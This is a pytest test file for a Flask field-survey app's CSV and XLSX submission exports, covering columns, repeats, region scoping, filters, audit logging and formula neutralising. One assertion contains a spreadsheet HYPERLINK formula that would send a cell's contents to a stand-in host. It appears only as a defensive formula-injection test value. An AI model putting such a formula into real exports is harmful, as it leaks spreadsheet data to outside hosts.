"""Exports: every column against the submissions (groups, repeats, nested repeats,
select_multiple, geopoints, several versions, encrypted, deleted left out), region scope,
audit rows, formula neutralising, a dropped download, and the case list exports."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import select

from fieldapp.audit.models import AuditEvent
from fieldapp.db import db
from tests.openrosa.helpers import PNG, Collect, device_for, publish_md

FORM = """
| survey   |                    |          |                          |                     |
|          | type               | name     | label::English (en)      | label::Русский (ru) |
|          | text               | name     | Name                     | Имя                 |
|          | integer            | age      | Age                      | Возраст             |
|          | begin_group        | home     | Home                     | Дом                 |
|          | select_multiple ab | needs    | Needs                    | Нужды               |
|          | geopoint           | loc      | Location                 | Место               |
|          | end_group          |          |                          |                     |
|          | image              | photo    | Photo                    | Фото                |
|          | begin_repeat       | child    | Child                    | Ребёнок             |
|          | text               | cname    | Child name               | Имя ребёнка         |
|          | begin_repeat       | visit    | Visit                    | Визит               |
|          | date               | vdate    | Visit date               | Дата                |
|          | end_repeat         |          |                          |                     |
|          | end_repeat         |          |                          |                     |
{extra}
| choices  |                    |          |                          |                     |
|          | list_name          | name     | label::English (en)      | label::Русский (ru) |
|          | ab                 | food     | Food                     | Еда                 |
|          | ab                 | school   | School                   | Школа               |
| settings |                    |          |                          |                     |
|          | form_id            | version  | default_language         |                     |
|          | expo               | {version} | English (en)            |                     |
"""


def publish(version: str, extra: str) -> None:
    publish_md(FORM.replace("{extra}", extra), version=version)


def body(name: str, *, children: str = "", extra: str = "", needs: str = "food school") -> str:
    return (
        f"<name>{name}</name><age>7</age><home><needs>{needs}</needs>"
        "<loc>43.25 76.95 800 5</loc></home><photo>p.png</photo>"
        f"{children}{extra}"
    )


CHILDREN = (
    "<child><cname>Ali</cname><visit><vdate>2026-01-02</vdate></visit>"
    "<visit><vdate>2026-02-03</vdate></visit></child>"
    "<child><cname>Sara</cname></child>"
)


def get(app: Flask, world: dict[str, Any], who: str, url: str) -> Any:
    return app.test_client().get(url, headers={"Authorization": f"Bearer {world['tokens'][who]}"})


def tables(data: bytes) -> dict[str, list[dict[str, str]]]:
    out = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8-sig")
                out[name] = list(csv.DictReader(io.StringIO(text)))
    return out


URL = "/api/v1/forms/expo/submissions.csv.zip"


def test_csv_zip_tables_and_every_column(app: Flask, world):
    response = get(app, world, "coord1", URL)
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    found = tables(response.get_data())
    assert set(found) == {"expo.csv", "expo-child.csv", "expo-visit.csv"}
    top = {r["KEY"]: r for r in found["expo.csv"]}
    assert set(top) == {"uuid:n1", "uuid:n2"}  # n3 deleted, s1 another region
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        header = next(csv.reader(io.StringIO(archive.read("expo.csv").decode("utf-8-sig"))))
    # the newest version's order, old_q (only in version 1) after the sibling it followed
    assert header == [
        "SubmissionDate", "name", "age", "home-needs", "home-loc-Latitude", "home-loc-Longitude",
        "home-loc-Altitude", "home-loc-Accuracy", "photo", "new_q", "old_q", "meta-instanceID",
        "KEY", "SubmitterName", "Region", "ReviewState", "Urgent", "FormVersion", "Encrypted",
    ]  # fmt: skip
    amina = top["uuid:n1"]
    assert amina["name"] == "Amina"
    assert amina["age"] == "7"
    assert amina["home-needs"] == "food school"
    assert (amina["home-loc-Latitude"], amina["home-loc-Accuracy"]) == ("43.25", "5.0")
    assert amina["photo"] == "p.png"
    assert (amina["old_q"], amina["new_q"]) == ("was", "")
    assert amina["meta-instanceID"] == "uuid:n1"
    assert amina["SubmitterName"] == "worker1"
    assert amina["Region"] == "north"
    assert amina["ReviewState"] == "received"
    assert amina["FormVersion"] == "1"
    assert amina["Encrypted"] == "false"
    assert amina["SubmissionDate"].endswith("Z")
    assert top["uuid:n2"]["new_q"] == "is"
    # formula neutralised
    assert top["uuid:n2"]["name"] == '\'=HYPERLINK("http://x/?"&A1,"Open")'
    children = found["expo-child.csv"]
    assert [(c["cname"], c["PARENT_KEY"], c["KEY"]) for c in children] == [
        ("Ali", "uuid:n1", "uuid:n1/child[1]"),
        ("Sara", "uuid:n1", "uuid:n1/child[2]"),
    ]
    visits = found["expo-visit.csv"]
    assert [(v["vdate"], v["PARENT_KEY"], v["KEY"]) for v in visits] == [
        ("2026-01-02", "uuid:n1/child[1]", "uuid:n1/child[1]/visit[1]"),
        ("2026-02-03", "uuid:n1/child[1]", "uuid:n1/child[1]/visit[2]"),
    ]


def test_region_scope_admin_and_refused_roles(app: Flask, world):
    south = tables(get(app, world, "coord2", URL).get_data())
    assert [r["KEY"] for r in south["expo.csv"]] == ["uuid:s1"]
    assert south["expo-child.csv"] == []
    everyone = tables(get(app, world, "admin", URL).get_data())
    assert {r["KEY"] for r in everyone["expo.csv"]} == {"uuid:n1", "uuid:n2", "uuid:s1"}
    for who in ("worker1", "designer"):
        assert get(app, world, who, URL).status_code == 404
        assert get(app, world, who, "/api/v1/cases.csv?dataset=x").status_code == 404
    assert app.test_client().get(URL).status_code == 401


def test_filters(app: Flask, world):
    def keys(query: str) -> set[str]:
        response = get(app, world, "admin", f"{URL}?{query}")
        assert response.status_code == 200, response.get_data()
        return {r["KEY"] for r in tables(response.get_data())["expo.csv"]}

    assert keys("region=south") == {"uuid:s1"}
    assert keys("version=1") == {"uuid:n1"}
    assert keys("review_state=approved") == set()
    assert keys("review_state=received,approved") == {"uuid:n1", "uuid:n2", "uuid:s1"}
    assert keys("urgent=true") == set()
    assert keys("urgent=false") == {"uuid:n1", "uuid:n2", "uuid:s1"}
    assert keys("from=2000-01-01&to=2999-01-01") == {"uuid:n1", "uuid:n2", "uuid:s1"}
    assert keys("to=2000-01-01") == set()
    # a coordinator naming another region gets nothing of it
    response = get(app, world, "coord1", f"{URL}?region=south")
    assert tables(response.get_data())["expo.csv"] == []


def test_labels_choice_labels_and_split_columns(app: Flask, world):
    query = "headers=labels&lang=ru&choices=labels&split_select_multiples=true&region=south"
    found = tables(get(app, world, "admin", f"{URL}?{query}").get_data())
    (dana,) = found["expo.csv"]
    assert dana["Имя"] == "Dana"
    assert dana["Нужды"] == "Школа"
    assert (dana["Нужды/Еда"], dana["Нужды/Школа"]) == ("0", "1")
    assert "Место-Latitude" in dana
    names = tables(
        get(app, world, "admin", f"{URL}?split_select_multiples=1&region=south").get_data()
    )
    assert names["expo.csv"][0]["home-needs/school"] == "1"


def test_attachments_under_media(app: Flask, world):
    response = get(app, world, "coord1", f"{URL}?attachments=true")
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        media = [n for n in archive.namelist() if n.startswith("media/")]
        assert media == ["media/uuid_n1/p.png"]
        assert archive.read(media[0]) == PNG
    plain = get(app, world, "coord1", URL)
    with zipfile.ZipFile(io.BytesIO(plain.get_data())) as archive:
        assert not [n for n in archive.namelist() if n.startswith("media/")]


def test_xlsx_has_the_same_tables(app: Flask, world):
    response = get(app, world, "coord1", "/api/v1/forms/expo/submissions.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["expo", "child", "visit"]
    rows = list(book["expo"].iter_rows(values_only=True))
    header = rows[0]
    by_key = {r[header.index("KEY")]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert set(by_key) == {"uuid:n1", "uuid:n2"}
    assert by_key["uuid:n1"]["age"] == 7  # numbers stay numbers
    assert by_key["uuid:n2"]["name"].startswith("'=HYPERLINK")
    visits = list(book["visit"].iter_rows(values_only=True))
    assert visits[0][-2:] == ("PARENT_KEY", "KEY")
    assert [v[-1] for v in visits[1:]] == ["uuid:n1/child[1]/visit[1]", "uuid:n1/child[1]/visit[2]"]


def _events(action: str) -> list[AuditEvent]:
    return list(
        db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
        )
    )


def test_every_export_is_audited_with_filters_and_rows(app: Flask, world):
    get(app, world, "coord1", f"{URL}?review_state=received").get_data()
    (started,) = _events("export.started")
    assert started.actor_id == world["people"]["coord1"].id
    assert started.subject_id == "expo"
    assert started.details["filters"]["review_state"] == ["received"]
    assert started.details["format"] == "csv.zip"
    (finished,) = _events("export.finished")
    assert finished.details["rows"] == 2
    assert "Amina" not in str(started.details) + str(finished.details)


def test_a_dropped_download_is_audited_and_releases_its_session(app: Flask, world, monkeypatch):
    from fieldapp.exports import services, writers

    monkeypatch.setattr(services, "BATCH", 1)  # the portable path: a chunk per submission
    monkeypatch.setattr(writers, "FLUSH_BYTES", 1)  # PostgreSQL's COPY: a chunk per piece
    client = app.test_client()
    response = client.get(URL, headers={"Authorization": f"Bearer {world['tokens']['admin']}"})
    chunks = iter(response.response)
    next(chunks)  # the header of the first table
    next(chunks)  # one batch
    response.close()  # the client goes away
    (aborted,) = _events("export.aborted")
    assert aborted.details["rows"] <= 3  # rows written before the client left
    assert _events("export.finished") == []
    # the export's session is gone: the next export runs normally in the same thread
    again = client.get(URL, headers={"Authorization": f"Bearer {world['tokens']['admin']}"})
    assert len(tables(again.get_data())["expo.csv"]) == 3
    assert len(_events("export.finished")) == 1


def test_encrypted_submissions_export_their_envelope(app: Flask, world):
    from tests.openrosa.test_protocol import ENCRYPTED

    publish_md(ENCRYPTED)
    phone = Collect(app, f"/collect/key/{device_for(world['people']['worker1'])}")
    envelope = (
        b'<data xmlns="http://www.opendatakit.org/xforms/encrypted" id="secret" version="1" '
        b'encrypted="yes"><base64EncryptedKey>a2V5</base64EncryptedKey>'
        b'<orx:meta xmlns:orx="http://openrosa.org/xforms"><orx:instanceID>uuid:enc</orx:instanceID>'
        b"</orx:meta><encryptedXmlFile>submission.xml.enc</encryptedXmlFile>"
        b"<base64EncryptedElementSignature>c2ln</base64EncryptedElementSignature></data>"
    )
    assert phone.submit(envelope, [("submission.xml.enc", b"\x03")]).status_code == 201
    response = get(app, world, "coord1", "/api/v1/forms/secret/submissions.csv.zip")
    (row,) = tables(response.get_data())["secret.csv"]
    assert row["KEY"] == "uuid:enc"
    assert row["Encrypted"] == "true"
    assert row["name"] == ""
    assert row["SubmitterName"] == "worker1"


def test_hostile_arguments_are_refused_with_a_code(app: Flask, world):
    for query in (
        "from=yesterday",
        "review_state=lost",
        "urgent=maybe",
        "headers=x",
        "to=2026-13-01",
    ):
        response = get(app, world, "admin", f"{URL}?{query}")
        assert response.status_code == 422, query
        assert response.get_json()["error"]["code"] == "validation"
    assert get(app, world, "admin", "/api/v1/forms/nope/submissions.csv.zip").status_code == 404
    assert get(app, world, "admin", "/api/v1/cases.csv").status_code == 422


def test_pages_show_the_export_form(app: Flask, world, login_as):
    from tests.conftest import Browser

    browser = Browser(app.test_client())
    assert browser.login("coord1").status_code == 302
    page = browser.get("/exports/forms/expo")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "/api/v1/forms/expo/submissions.csv.zip" in text
    assert "data-visible>2<" in text
    assert "/exports" in browser.get("/review").get_data(as_text=True)
    assert browser.get("/exports").status_code == 200


def test_postgresql_copy_and_the_portable_path_write_the_same_tables(
    app: Flask, world, monkeypatch
):
    from fieldapp.exports import services

    if db.session.get_bind().dialect.name != "postgresql":
        pytest.skip("the COPY path is PostgreSQL's")
    query = "split_select_multiples=true&choices=labels&lang=ru"
    fast = tables(get(app, world, "admin", f"{URL}?{query}").get_data())
    monkeypatch.setattr(services, "_on_postgresql", lambda: False)
    portable = tables(get(app, world, "admin", f"{URL}?{query}").get_data())
    assert fast == portable
    assert fast["expo.csv"][0]["home-needs"] in ("Еда Школа", "Школа")


def test_the_sql_neutraliser_agrees_with_fieldapp_spreadsheet(app: Flask):
    from sqlalchemy import text

    from fieldapp.exports.pgcopy import neutral_sql, quote
    from fieldapp.spreadsheet import neutralise
    from tests.test_spreadsheet import test_neutralise

    if db.session.get_bind().dialect.name != "postgresql":
        pytest.skip("PostgreSQL's neutraliser")
    cases = [
        args[0]
        for mark in test_neutralise.pytestmark
        if mark.name == "parametrize"
        for args in mark.args[1]
        if isinstance(args[0], str)
    ]
    cases += ["-5\n", "--", "+", "1e5", "=", "@x", "'quoted", "a\tb"]
    for value in cases:
        got = db.session.scalar(text(f"SELECT {neutral_sql(quote(value))}"))
        assert got == neutralise(value), value
